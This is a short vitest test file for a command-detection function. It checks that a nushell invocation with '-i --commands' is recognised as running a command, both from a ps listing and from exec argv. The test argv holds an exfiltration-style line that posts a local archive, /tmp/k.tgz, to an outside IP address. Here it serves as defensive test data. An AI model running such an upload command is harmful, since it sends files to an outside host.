/** From a ps listing as from an exec, a long command option runs a command. */
/**
 * review10: the listing -i shortcut asks only "does another cluster have c or s", so the long command options the
 * normal loop honours (LONG_COMMAND: nushell's `--commands`) are skipped: `nu -i --commands '…'` (nu's -i is
 * --interactive) runs a command and exits, yet from ps it reads as interactive. The exact argv says otherwise.
 */
import { expect, it } from 'vitest';
import { runsCommandOrScript } from './lineage.js';

it('nu -i --commands CMD runs a command, from a ps listing as from an exec', () => {
  const argv = ['nu', '-i', '--commands', 'http', 'post', 'https://203.0.113.5/', '(open', '/tmp/k.tgz)'];
  expect({ exec: runsCommandOrScript('nu', argv, false), listing: runsCommandOrScript('nu', argv, true) }).toEqual({ exec: true, listing: true });
});
